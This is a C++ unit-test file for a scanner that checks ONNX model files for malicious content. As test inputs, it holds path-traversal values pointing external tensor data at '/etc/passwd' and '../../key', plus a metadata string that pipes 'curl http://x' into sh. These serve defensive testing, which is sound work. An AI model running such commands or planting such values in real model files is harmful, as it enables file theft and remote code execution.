#include "scan/onnx.h"

#include <gtest/gtest.h>

#include <algorithm>

#include "scan/formats.h"
#include "scan/scanner.h"

namespace hauberk::scan {
namespace {

std::string onnx_number(std::uint64_t value) {
  std::string out;
  for (; value >= 0x80; value >>= 7) out += static_cast<char>((value & 0x7f) | 0x80);
  return out + static_cast<char>(value);
}
std::string onnx_field(std::uint64_t number, const std::string& content) {
  return onnx_number(number << 3 | 2) + onnx_number(content.size()) + content;
}
std::string onnx_varint(std::uint64_t number, std::uint64_t value) {
  return onnx_number(number << 3) + onnx_number(value);
}

const std::string relu = onnx_field(1, onnx_field(4, "Relu"));
std::string onnx_model(const std::string& graph, const std::string& more = {}) {
  return onnx_varint(1, 8) + onnx_field(2, "test") + onnx_field(7, relu + graph) + onnx_field(8, onnx_varint(2, 18)) +
         more;
}
std::string outside(const std::string& key = "location", const std::string& value = "../../key") {
  return onnx_field(8, "w") + onnx_field(13, onnx_field(1, key) + onnx_field(2, value));
}
Report onnx_scan(const std::string& data) {
  MemoryReader reader(as_bytes(data));
  return scan(reader, "m.onnx");
}
bool onnx_is(const std::string& data) {
  MemoryReader reader(as_bytes(data));
  return is_onnx(reader);
}

TEST(Onnx, data_outside_the_folder_is_found_wherever_a_tensor_may_be) {
  const auto attribute = [](const std::string& content) {
    return onnx_field(1, onnx_field(4, "X") + onnx_field(5, content));
  };
  const auto tensor = outside();
  const std::string graphs[] = {
      onnx_field(5, tensor),                             // initializer
      onnx_field(15, onnx_field(1, tensor)),             // values of a sparse one
      onnx_field(15, onnx_field(2, tensor)),             // its indices
      attribute(onnx_field(5, tensor)),                  // a node's attribute: a tensor
      attribute(onnx_field(10, tensor)),                 // one of several
      attribute(onnx_field(22, onnx_field(1, tensor))),  // a sparse one
      attribute(onnx_field(23, onnx_field(2, tensor))),  // one of several
      attribute(onnx_field(6, onnx_field(5, tensor))),   // a graph within
      attribute(onnx_field(11, onnx_field(5, tensor))),  // one of several
  };
  for (const auto& graph : graphs) {
    EXPECT_EQ(onnx_scan(onnx_model(graph)).verdict, ScanVerdict::malicious) << graph;
    EXPECT_EQ(onnx_scan(onnx_model("", onnx_field(20, onnx_field(1, graph)))).verdict, ScanVerdict::malicious) << graph;
  }
  const auto function = onnx_field(7, onnx_field(4, "X") + onnx_field(5, onnx_field(5, tensor)));
  EXPECT_EQ(onnx_scan(onnx_model("", onnx_field(25, function))).verdict, ScanVerdict::malicious);
  EXPECT_EQ(onnx_scan(onnx_model("", onnx_field(25, onnx_field(11, onnx_field(5, tensor))))).verdict,
            ScanVerdict::malicious);
}

TEST(Onnx, entries_of_external_data_are_judged_one_by_one) {
  struct Case {
    const char *key, *value;
    ScanVerdict verdict;
  };
  static const Case cases[] = {
      {"location", "weights.bin", ScanVerdict::review},
      {"location", "sub/weights.bin", ScanVerdict::review},
      {"location", "/etc/passwd", ScanVerdict::malicious},
      {"location", "a/../../b", ScanVerdict::malicious},
      {"location", "C:\\x", ScanVerdict::malicious},
      {"location", "..\\x", ScanVerdict::malicious},
      {"location", "http://x/y", ScanVerdict::malicious},
      {"location", "", ScanVerdict::malformed},
      {"offset", "4096", ScanVerdict::clean},
      {"offset", "-1", ScanVerdict::malformed},
      {"length", "99999999999999999999", ScanVerdict::malformed},
      {"length", "0x10", ScanVerdict::malformed},
      {"checksum", "abc", ScanVerdict::clean},
      {"basepath", "/x", ScanVerdict::review},
      {"__class__", "x", ScanVerdict::review},
  };
  for (const auto& c : cases)
    EXPECT_EQ(onnx_scan(onnx_model(onnx_field(5, outside(c.key, c.value)))).verdict, c.verdict)
        << c.key << " " << c.value;
  // However many there are.
  std::string many = onnx_field(8, "w");
  for (int i = 0; i < 100; ++i) many += onnx_field(13, onnx_field(1, "offset") + onnx_field(2, "0"));
  EXPECT_EQ(onnx_scan(onnx_model(onnx_field(5, many + outside()))).verdict, ScanVerdict::malicious);
  const auto context = [](const std::string& path) {
    return onnx_model(onnx_field(1, onnx_field(4, "EPContext") + onnx_field(7, "com.microsoft") +
                                        onnx_field(5, onnx_field(1, "ep_cache_context") + onnx_field(4, path))));
  };
  EXPECT_EQ(onnx_scan(context("part.bin")).verdict, ScanVerdict::clean);
  EXPECT_EQ(onnx_scan(context("../../part.bin")).verdict, ScanVerdict::malicious);
}

TEST(Onnx, is_what_has_a_version_and_a_graph) {
  EXPECT_TRUE(onnx_is(onnx_model("")));
  EXPECT_TRUE(onnx_is(onnx_field(99, "x") + onnx_model("") + onnx_field(77, "y")));  // loaders skip what is unknown
  EXPECT_TRUE(onnx_is(onnx_varint(1, 8) + onnx_field(25, onnx_field(7, onnx_field(4, "Relu")))));
  EXPECT_FALSE(onnx_is(onnx_field(7, relu)));
  EXPECT_FALSE(onnx_is(onnx_varint(1, 21) + onnx_field(7, relu)));
  EXPECT_FALSE(onnx_is(onnx_varint(1, 8) + onnx_field(2, "test")));
  EXPECT_FALSE(onnx_is(onnx_varint(1, 8) + onnx_field(2, "test") + onnx_field(7, "")));
  // Cut off, it is still nothing else.
  const auto whole = onnx_model("");
  for (std::size_t cut = 10; cut + 4 < whole.size(); ++cut)  // then the graph is whole
    EXPECT_NE(onnx_scan(whole.substr(0, cut)).verdict, ScanVerdict::clean) << cut;
}

TEST(Onnx, programs_in_metadata_are_found_at_every_level) {
  const std::string program = "import os; os.system('curl http://x | sh')";
  const auto entry = [&](std::uint64_t number) {
    return onnx_field(number, onnx_field(1, "k") + onnx_field(2, program));
  };
  for (const auto& model :
       {onnx_model("", entry(14)), onnx_model(entry(16)), onnx_model(onnx_field(1, onnx_field(4, "Relu") + entry(9))),
        onnx_model(onnx_field(5, onnx_field(8, "w") + entry(16)))})
    EXPECT_EQ(onnx_scan(model).verdict, ScanVerdict::malicious);
}

}  // namespace
}  // namespace hauberk::scan
